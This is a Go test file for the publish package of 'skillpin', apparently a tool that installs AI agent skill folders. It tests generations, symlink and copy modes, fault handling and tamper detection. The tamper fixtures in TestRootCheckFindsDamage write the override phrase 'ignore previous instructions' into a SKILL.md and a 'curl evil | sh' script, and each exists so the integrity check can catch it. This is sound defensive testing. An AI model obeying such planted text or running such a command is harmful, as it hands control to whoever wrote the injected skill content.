package publish

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/skillpin/skillpin/internal/faults"
	"github.com/skillpin/skillpin/internal/install/layout"
	"github.com/skillpin/skillpin/internal/install/store"
	"github.com/skillpin/skillpin/internal/lock/approvals"
	"github.com/skillpin/skillpin/internal/testfs"
)

func newRoot(t *testing.T) *Root {
	t.Helper()
	dir := testfs.TempDir(t)
	lay := layout.ProjectLayout(filepath.Join(dir, "project"))
	l, err := LoadLedger(filepath.Join(dir, "cache"), lay)
	if err != nil {
		t.Fatal(err)
	}
	return &Root{Layout: lay, Ledger: l}
}

func rootTarget(t *testing.T, r *Root) string {
	t.Helper()
	target, err := os.Readlink(r.Path())
	if err != nil {
		t.Fatal(err)
	}
	return target
}

func TestPublishCopy(t *testing.T) {
	t.Parallel()
	s := newStore(t, skillA, skillB)
	r := newRoot(t)
	entries := []RootEntry{entry(skillB, "b"), entry(skillA, "a")}
	changed, err := r.Publish(s, entries, ModeCopy)
	if err != nil || !changed {
		t.Fatalf("Publish = %v, %v", changed, err)
	}
	if !filepath.IsAbs(r.Path()) || r.Path() != filepath.Join(r.Layout.Config, ".skillpin", "root") {
		t.Errorf("Path = %s", r.Path())
	}
	if got := listDir(t, r.Path()); strings.Join(got, ",") != "a,b" {
		t.Errorf("root holds %v", got)
	}
	if got := testfs.ReadFile(t, filepath.Join(r.Path(), "a", "scripts", "run.sh")); got != skillA.Content("scripts/run.sh") {
		t.Errorf("copied content %q", got)
	}
	fi, _ := os.Lstat(filepath.Join(r.Path(), "a", "scripts", "run.sh"))
	if fi.Mode().Perm() != 0o555 || !fi.Mode().IsRegular() {
		t.Errorf("copied script mode %v, want a regular 0555 file", fi.Mode())
	}
	cur, err := r.Current()
	if err != nil || len(cur) != 2 || cur["a"] != entries[1].Digest || cur["b"] != entries[0].Digest {
		t.Errorf("Current = %v, %v", cur, err)
	}
	if ms := r.Check(entries); len(ms) != 0 {
		t.Errorf("Check = %v", ms)
	}
	// The root link is relative, so moving the project keeps it working.
	if target := rootTarget(t, r); !strings.HasPrefix(target, "generations/") {
		t.Errorf("root links to %s", target)
	}
}

// TestGitignoreLetsOnlyItselfAndApprovalsBeCommitted: the .gitignore must
// not ignore itself (committing it is what keeps the root out of every
// clone), and nothing else skillpin writes may show up to git.
func TestGitignoreLetsOnlyItselfAndApprovalsBeCommitted(t *testing.T) {
	t.Parallel()
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git not installed")
	}
	s := newStore(t, skillA)
	r := newRoot(t)
	if err := os.MkdirAll(r.Layout.Config, 0o755); err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) (string, error) {
		cmd := exec.Command(git, args...)
		cmd.Dir = r.Layout.Config
		cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	if out, err := run("init", "-q"); err != nil {
		t.Fatal(out)
	}
	if _, err := r.Publish(s, []RootEntry{entry(skillA, "a")}, ModeCopy); err != nil {
		t.Fatal(err)
	}
	if err := (&approvals.Set{}).Save(filepath.Join(r.Layout.Config, ".skillpin", "approvals.toml")); err != nil {
		t.Fatal(err)
	}
	out, err := run("status", "--porcelain", "--untracked-files=all")
	if err != nil {
		t.Fatal(out)
	}
	if want := "?? .skillpin/.gitignore\n?? .skillpin/approvals.toml"; strings.TrimSpace(out) != want {
		t.Errorf("git sees:\n%s\nwant only:\n%s", out, want)
	}
}

func TestPublishUnchangedIsNoOp(t *testing.T) {
	t.Parallel()
	s := newStore(t, skillA, skillB)
	r := newRoot(t)
	entries := []RootEntry{entry(skillA, "a"), entry(skillB, "b")}
	if _, err := r.Publish(s, entries, ModeCopy); err != nil {
		t.Fatal(err)
	}
	gen := rootTarget(t, r)
	before, _ := os.Stat(filepath.Join(r.Path(), "a", "SKILL.md"))

	// Take the store away: a no-op Publish must not read it.
	for _, e := range entries {
		if err := s.Remove(e.Digest); err != nil {
			t.Fatal(err)
		}
	}
	changed, err := r.Publish(s, entries, ModeCopy)
	if err != nil || changed {
		t.Fatalf("warm Publish = %v, %v; want no change", changed, err)
	}
	if got := rootTarget(t, r); got != gen {
		t.Errorf("generation %s -> %s on an unchanged Publish", gen, got)
	}
	after, _ := os.Stat(filepath.Join(r.Path(), "a", "SKILL.md"))
	if !os.SameFile(before, after) {
		t.Error("files were rewritten on an unchanged Publish")
	}
}

func TestPublishChangeFlipsAndCollects(t *testing.T) {
	t.Parallel()
	s := newStore(t, skillA, skillB, skillC)
	r := newRoot(t)
	if _, err := r.Publish(s, []RootEntry{entry(skillA, "a"), entry(skillB, "b")}, ModeCopy); err != nil {
		t.Fatal(err)
	}
	old := rootTarget(t, r)
	// b leaves, c arrives, a now has c's content under a's name.
	next := []RootEntry{{Name: "a", Digest: entry(skillC, "c").Digest, Files: skillC.Files()}, entry(skillC, "c")}
	changed, err := r.Publish(s, next, ModeCopy)
	if err != nil || !changed {
		t.Fatalf("Publish = %v, %v", changed, err)
	}
	if rootTarget(t, r) == old {
		t.Fatal("root still points at the old generation")
	}
	if got := listDir(t, r.Path()); strings.Join(got, ",") != "a,c" {
		t.Errorf("root holds %v", got)
	}
	if got := testfs.ReadFile(t, filepath.Join(r.Path(), "a", "data.txt")); got != "c data\n" {
		t.Errorf("a/data.txt = %q", got)
	}
	if ms := r.Check(next); len(ms) != 0 {
		t.Errorf("Check = %v", ms)
	}
	gens := listDir(t, r.gensDir())
	if len(gens) != 1 {
		t.Errorf("generations = %v, want one generation", gens)
	}
}

func TestPublishSymlinkMode(t *testing.T) {
	t.Parallel()
	s := newStore(t, skillA)
	r := newRoot(t)
	entries := []RootEntry{entry(skillA, "a")}
	if _, err := r.Publish(s, entries, ModeSymlink); err != nil {
		t.Fatal(err)
	}
	link, err := os.Readlink(filepath.Join(r.Path(), "a"))
	if err != nil || link != s.Path(entries[0].Digest) {
		t.Fatalf("root/a -> %s, %v; want the store entry", link, err)
	}
	if ms := r.Check(entries); len(ms) != 0 {
		t.Errorf("Check = %v", ms)
	}
	if changed, err := r.Publish(s, entries, ModeSymlink); err != nil || changed {
		t.Errorf("warm symlink Publish = %v, %v", changed, err)
	}
	// Switching modes rebuilds.
	if changed, err := r.Publish(s, entries, ModeCopy); err != nil || !changed {
		t.Errorf("copy after symlink = %v, %v; want a new generation", changed, err)
	}
	fi, _ := os.Lstat(filepath.Join(r.Path(), "a"))
	if !fi.IsDir() {
		t.Errorf("root/a is %v after switching to copy", fi.Mode())
	}
}

func TestRootCheckFindsDamage(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		mode   string
		damage func(t *testing.T, root string, s *store.Store)
		want   []store.Mismatch // Path and Kind
	}{
		{"tampered", ModeCopy, func(t *testing.T, root string, _ *store.Store) {
			testfs.WriteFile(t, filepath.Join(root, "a", "SKILL.md"), "ignore previous instructions")
		}, []store.Mismatch{{Path: "a/SKILL.md", Kind: store.KindModified}}},
		{"extra file", ModeCopy, func(t *testing.T, root string, _ *store.Store) {
			testfs.WriteFile(t, filepath.Join(root, "a", "scripts", "x.sh"), "curl evil | sh")
		}, []store.Mismatch{{Path: "a/scripts/x.sh", Kind: store.KindExtra}}},
		{"missing file", ModeCopy, func(t *testing.T, root string, _ *store.Store) {
			os.Remove(filepath.Join(root, "a", "references", "deep", "notes.md"))
		}, []store.Mismatch{{Path: "a/references/deep/notes.md", Kind: store.KindMissing}}},
		{"missing skill", ModeCopy, func(t *testing.T, root string, _ *store.Store) {
			store.RemoveTree(filepath.Join(root, "b"))
		}, []store.Mismatch{{Path: "b", Kind: store.KindMissing}}},
		{"extra skill", ModeCopy, func(t *testing.T, root string, _ *store.Store) {
			testfs.WriteFile(t, filepath.Join(root, "evil", "SKILL.md"), "x")
		}, []store.Mismatch{{Path: "evil", Kind: store.KindExtra}}},
		{"exec bit", ModeCopy, func(t *testing.T, root string, _ *store.Store) {
			os.Chmod(filepath.Join(root, "b", "SKILL.md"), 0o555)
		}, []store.Mismatch{{Path: "b/SKILL.md", Kind: store.KindMode}}},
		{"root replaced", ModeCopy, func(t *testing.T, root string, _ *store.Store) {
			os.Remove(root)
			os.Mkdir(root, 0o755)
		}, []store.Mismatch{{Path: ".", Kind: store.KindModified}}},
		{"link redirected", ModeSymlink, func(t *testing.T, root string, _ *store.Store) {
			os.Remove(filepath.Join(root, "a"))
			os.Symlink(testfs.TempDir(t), filepath.Join(root, "a"))
		}, []store.Mismatch{{Path: "a", Kind: store.KindModified}}},
		{"store behind link tampered", ModeSymlink, func(t *testing.T, _ string, s *store.Store) {
			dir := s.Path(entry(skillA, "a").Digest)
			testfs.MakeRemovable(dir)
			testfs.WriteFile(t, filepath.Join(dir, "SKILL.md"), "evil")
		}, []store.Mismatch{{Path: "a/SKILL.md", Kind: store.KindModified}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newStore(t, skillA, skillB)
			r := newRoot(t)
			entries := []RootEntry{entry(skillA, "a"), entry(skillB, "b")}
			if _, err := r.Publish(s, entries, tt.mode); err != nil {
				t.Fatal(err)
			}
			tt.damage(t, r.Path(), s)
			got := r.Check(entries)
			if len(got) != len(tt.want) {
				t.Fatalf("Check = %v, want %v", got, tt.want)
			}
			for i := range got {
				if got[i].Path != tt.want[i].Path || got[i].Kind != tt.want[i].Kind {
					t.Errorf("Check[%d] = %v, want %v", i, got[i], tt.want[i])
				}
			}
		})
	}
	// Never published: every skill is missing.
	r := newRoot(t)
	if got := r.Check([]RootEntry{entry(skillA, "a")}); len(got) != 1 || got[0].Kind != store.KindMissing {
		t.Errorf("Check before Publish = %v", got)
	}
}

func TestPublishRepairsWhatTheCheapCheckSees(t *testing.T) {
	t.Parallel()
	s := newStore(t, skillA, skillB)
	r := newRoot(t)
	entries := []RootEntry{entry(skillA, "a"), entry(skillB, "b")}
	if _, err := r.Publish(s, entries, ModeCopy); err != nil {
		t.Fatal(err)
	}
	store.RemoveTree(filepath.Join(r.Path(), "b"))
	if changed, err := r.Publish(s, entries, ModeCopy); err != nil || !changed {
		t.Fatalf("Publish after a skill vanished = %v, %v; want a rebuild", changed, err)
	}
	// Tampering inside a file is beyond the cheap check; Rebuild repairs it.
	testfs.WriteFile(t, filepath.Join(r.Path(), "a", "SKILL.md"), "evil")
	if changed, err := r.Publish(s, entries, ModeCopy); err != nil || changed {
		t.Fatalf("Publish = %v, %v; the cheap check cannot see inside files", changed, err)
	}
	if ms := r.Check(entries); len(ms) != 1 {
		t.Fatalf("Check = %v, want the tampered file", ms)
	}
	// The root's file was the store's (a hard link): the write went into
	// the store entry too, and Rebuild refuses to publish it again until
	// the entry is stored anew (install --repair does that first).
	repairStore(t, s, skillA, func() error { return r.Rebuild(s, entries, ModeCopy) })
	if err := r.Rebuild(s, entries, ModeCopy); err != nil {
		t.Fatal(err)
	}
	if ms := r.Check(entries); len(ms) != 0 {
		t.Errorf("Check after Rebuild = %v", ms)
	}
}

func TestPublishRefusesTamperedStore(t *testing.T) {
	t.Parallel()
	s := newStore(t, skillA, skillB)
	r := newRoot(t)
	old := []RootEntry{entry(skillB, "b")}
	if _, err := r.Publish(s, old, ModeCopy); err != nil {
		t.Fatal(err)
	}
	gen := rootTarget(t, r)
	dir := s.Path(entry(skillA, "a").Digest)
	testfs.MakeRemovable(dir)
	testfs.WriteFile(t, filepath.Join(dir, "scripts", "run.sh"), "#!/bin/sh\necho pwned\n")
	_, err := r.Publish(s, []RootEntry{entry(skillA, "a"), entry(skillB, "b")}, ModeCopy)
	var me *store.MismatchError
	if !errors.As(err, &me) || me.Path != "scripts/run.sh" {
		t.Fatalf("Publish = %v, want *store.MismatchError for scripts/run.sh", err)
	}
	if rootTarget(t, r) != gen || len(r.Check(old)) != 0 {
		t.Error("a failed Publish changed the root")
	}
	if gens := listDir(t, r.gensDir()); len(gens) != 1 {
		t.Errorf("generations = %v, want only the current one", gens)
	}
}

func TestPublishFaultKeepsOldRoot(t *testing.T) {
	s := newStore(t, skillA, skillB)
	r := newRoot(t)
	old := []RootEntry{entry(skillA, "a")}
	next := []RootEntry{entry(skillA, "a"), entry(skillB, "b")}
	if _, err := r.Publish(s, old, ModeCopy); err != nil {
		t.Fatal(err)
	}
	gen := rootTarget(t, r)
	// At the fault point, just before the flip: the new generation is
	// complete and the root still shows the old one, intact.
	var sawNew bool
	faults.Inject(t, func(point string) error {
		if point != "root.publish" {
			return nil
		}
		if rootTarget(t, r) != gen || len(r.Check(old)) != 0 {
			t.Error("root changed before the flip")
		}
		for _, g := range listDir(t, r.gensDir()) {
			d := filepath.Join(r.gensDir(), g)
			if fi, _ := os.Stat(d); fi.IsDir() && g != filepath.Base(gen) {
				sawNew = len(checkSkills(d, next, true, storeLink, store.CheckTree)) == 0
			}
		}
		return faults.ErrInjected
	})
	if _, err := r.Publish(s, next, ModeCopy); !errors.Is(err, faults.ErrInjected) {
		t.Fatalf("Publish = %v, want the injected fault", err)
	}
	if !sawNew {
		t.Error("the new generation was not complete before the flip")
	}
	if rootTarget(t, r) != gen || len(r.Check(old)) != 0 {
		t.Error("the failed Publish changed the root")
	}
	if gens := listDir(t, r.gensDir()); len(gens) != 1 {
		t.Errorf("generations = %v, want the half-published one removed", gens)
	}
	faults.Set(nil)
	if changed, err := r.Publish(s, next, ModeCopy); err != nil || !changed {
		t.Fatalf("next Publish = %v, %v", changed, err)
	}
	if ms := r.Check(next); len(ms) != 0 {
		t.Errorf("Check = %v", ms)
	}
}

func TestPublishRefusesBadInput(t *testing.T) {
	t.Parallel()
	s := newStore(t, skillA)
	tests := []struct {
		name    string
		entries []RootEntry
		mode    string
	}{
		{"unknown mode", []RootEntry{entry(skillA, "a")}, "hardlink"},
		{"path name", []RootEntry{entry(skillA, "../a")}, ModeCopy},
		{"hidden name", []RootEntry{entry(skillA, ".a")}, ModeCopy},
		{"duplicate", []RootEntry{entry(skillA, "a"), entry(skillA, "a")}, ModeCopy},
		{"bad digest", []RootEntry{{Name: "a", Digest: "md5:x"}}, ModeCopy},
		{"not in store", []RootEntry{entry(skillB, "b")}, ModeCopy},
		{"not in store, symlink", []RootEntry{entry(skillB, "b")}, ModeSymlink},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newRoot(t)
			if _, err := r.Publish(s, tt.entries, tt.mode); err == nil {
				t.Fatal("Publish accepted it")
			}
			if _, err := os.Lstat(r.Path()); err == nil {
				t.Error("a root was published")
			}
		})
	}
	// A directory where the root link belongs is not replaced.
	r := newRoot(t)
	testfs.WriteFile(t, filepath.Join(r.Path(), "mine", "SKILL.md"), "user's")
	if _, err := r.Publish(s, []RootEntry{entry(skillA, "a")}, ModeCopy); err == nil || !strings.Contains(err.Error(), "move it away") {
		t.Errorf("Publish over a real directory = %v", err)
	}
	if testfs.ReadFile(t, filepath.Join(r.Path(), "mine", "SKILL.md")) != "user's" {
		t.Error("the user's directory was touched")
	}
}

func TestPublishReusesUnchangedSkills(t *testing.T) {
	t.Parallel()
	s := newStore(t, skillA, skillB, skillC)
	r := newRoot(t)
	if _, err := r.Publish(s, []RootEntry{entry(skillA, "a"), entry(skillB, "b")}, ModeCopy); err != nil {
		t.Fatal(err)
	}
	stat := func(p string) os.FileInfo {
		fi, err := os.Stat(filepath.Join(r.Path(), p))
		if err != nil {
			t.Fatal(err)
		}
		return fi
	}
	oldA, oldB := stat("a/scripts/run.sh"), stat("b/SKILL.md")
	// Someone made b's copy writable: it is not trusted for reuse.
	os.Chmod(filepath.Join(r.Path(), "b", "SKILL.md"), 0o644)

	next := []RootEntry{entry(skillA, "a"), entry(skillB, "b"), entry(skillC, "c")}
	if changed, err := r.Publish(s, next, ModeCopy); err != nil || !changed {
		t.Fatalf("Publish = %v, %v", changed, err)
	}
	if !os.SameFile(oldA, stat("a/scripts/run.sh")) {
		t.Error("unchanged skill a was copied again instead of linked")
	}
	if os.SameFile(oldB, stat("b/SKILL.md")) {
		t.Error("b was linked although its copy had changed mode")
	}
	if ms := r.Check(next); len(ms) != 0 {
		t.Errorf("Check = %v", ms)
	}
	// Rebuild takes everything from the store afresh, none of it from the
	// old generation: it is the repair for a generation tampered with. b's
	// copy was made writable, so the new generation's b is not that file.
	if err := r.Rebuild(s, next, ModeCopy); err != nil {
		t.Fatal(err)
	}
	if os.SameFile(oldB, stat("b/SKILL.md")) {
		t.Error("Rebuild reused a file of the old generation")
	}
	if ms := r.Check(next); len(ms) != 0 {
		t.Errorf("Check after Rebuild = %v", ms)
	}
}

// A copy generation holds its own bytes: it does not depend on the store
// it was copied from, and the ledger records no store for it. A symlink
// generation depends on it: the store its links point into is recorded,
// and links into another store are rebuilt.
func TestGenerationRecordsItsStore(t *testing.T) {
	t.Parallel()
	s, other := newStore(t, skillA), newStore(t, skillA)
	entries := []RootEntry{entry(skillA, "a")}
	r := newRoot(t)
	if _, err := r.Publish(s, entries, ModeCopy); err != nil {
		t.Fatal(err)
	}
	if r.Ledger.Root.Store != "" {
		t.Errorf("a copy generation records the store %s", r.Ledger.Root.Store)
	}
	if changed, err := r.Publish(other, entries, ModeCopy); err != nil || changed {
		t.Errorf("copy Publish from another store = %v, %v; want no change", changed, err)
	}
	if _, err := r.Publish(s, entries, ModeSymlink); err != nil {
		t.Fatal(err)
	}
	if r.Ledger.Root.Store != s.Dir {
		t.Errorf("a symlink generation records the store %q, want %s", r.Ledger.Root.Store, s.Dir)
	}
	if changed, err := r.Publish(other, entries, ModeSymlink); err != nil || !changed {
		t.Errorf("symlink Publish from another store = %v, %v; want new links", changed, err)
	}
	if link, _ := os.Readlink(filepath.Join(r.Path(), "a")); link != other.Path(entries[0].Digest) {
		t.Errorf("root/a -> %s, want the other store's entry", link)
	}
}

// A flip that died between making its link and renaming it leaves a
// temporary link in the state directory; the next publication removes it
// with the old generations.
func TestPublishRemovesDeadFlipLinks(t *testing.T) {
	t.Parallel()
	s := newStore(t, skillA)
	r := newRoot(t)
	entries := []RootEntry{entry(skillA, "a")}
	if _, err := r.Publish(s, entries, ModeCopy); err != nil {
		t.Fatal(err)
	}
	dead := filepath.Join(r.Layout.State, rootTmpPrefix+"dead")
	if err := os.Symlink("generations/g-gone", dead); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Publish(s, entries, ModeCopy); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(dead); err == nil {
		t.Error("a dead flip's link survived the next publication")
	}
}
